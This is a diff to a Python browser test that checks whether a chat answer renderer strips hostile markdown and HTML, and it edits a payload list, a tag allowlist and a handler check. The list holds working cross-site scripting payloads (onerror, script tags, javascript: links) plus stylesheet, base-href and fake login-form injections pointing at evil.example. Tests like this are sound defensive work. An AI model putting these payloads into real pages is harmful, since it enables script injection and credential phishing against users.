@@ -19,7 +19,7 @@ HOSTILE = [
     '[k](https://x.example/"onmouseover="window.pwned=1 "title" onclick="window.pwned=1")',
     '<https://evil.example/"><img src=x onerror=window.pwned=1>>',
     '```html"><img src=x onerror=window.pwned=1>\n<script>window.pwned = 1</script>\n```',
-    "| <img src=x onerror=window.pwned=1> | b |\n|---|---|\n| <script>window.pwned=1</script> | [x](javascript:window.pwned=1) |",
+    "| <img src=x onerror=window.pwned=1> | b |\n|---|---|\n| <script>window.pwned=1</script> | [x](javascript:x) |",
     "<style>body { display: none }</style><link rel=stylesheet href=//evil.example/x.css><base href=//evil.example/>",
     "<form action=//evil.example><input name=key><button>Log in</button></form>",
     "&lt;script&gt;window.pwned = 1&lt;/script&gt; &#60;img src=x onerror=window.pwned=1&#62; &#x110000; &#0;",
@@ -31,15 +31,41 @@ HOSTILE = [
 ]
 
 ALLOWED = {
-    "A", "BLOCKQUOTE", "BR", "BUTTON", "CODE", "DEL", "DIV", "EM", "H3", "H4", "H5", "H6", "HR", "LI", "OL", "P", "PATH",
-    "PRE", "SPAN", "STRONG", "SVG", "TABLE", "TBODY", "TD", "TH", "THEAD", "TR", "UL",
-}  # fmt: skip
+    "A",
+    "BLOCKQUOTE",
+    "BR",
+    "BUTTON",
+    "CODE",
+    "DEL",
+    "DIV",
+    "EM",
+    "H3",
+    "H4",
+    "H5",
+    "H6",
+    "HR",
+    "LI",
+    "OL",
+    "P",
+    "PATH",
+    "PRE",
+    "SPAN",
+    "STRONG",
+    "SVG",
+    "TABLE",
+    "TBODY",
+    "TD",
+    "TH",
+    "THEAD",
+    "TR",
+    "UL",
+}
 
 SEEN = """() => {
   const elements = [...document.querySelectorAll(".prose *")];
   return {
     tags: [...new Set(elements.map((element) => element.tagName.toUpperCase()))],
-    handlers: elements.flatMap((element) => element.getAttributeNames().filter((name) => name.startsWith("on") || name === "style")),
+    handlers: elements.flatMap((element) => element.getAttributeNames()).filter((name) => /^on|^style$/.test(name)),
     links: elements.filter((element) => element.tagName === "A").map((element) => [element.protocol, element.rel]),
     pwned: window.pwned ?? null,
   };
@@ -48,7 +74,7 @@ SEEN = """() => {
 
 @pytest.fixture(scope="module")
 def prose(browser, served):
-    """Shows a text as an answer would be, in one page for all of them; and what else that page asked the network for."""
+    """Shows a text as an answer would be, in one page for all of them, which asks nobody else for anything."""
     url, gateway = served
     gateway.reset()
     page = browser.new_context(locale="en-US").new_page()
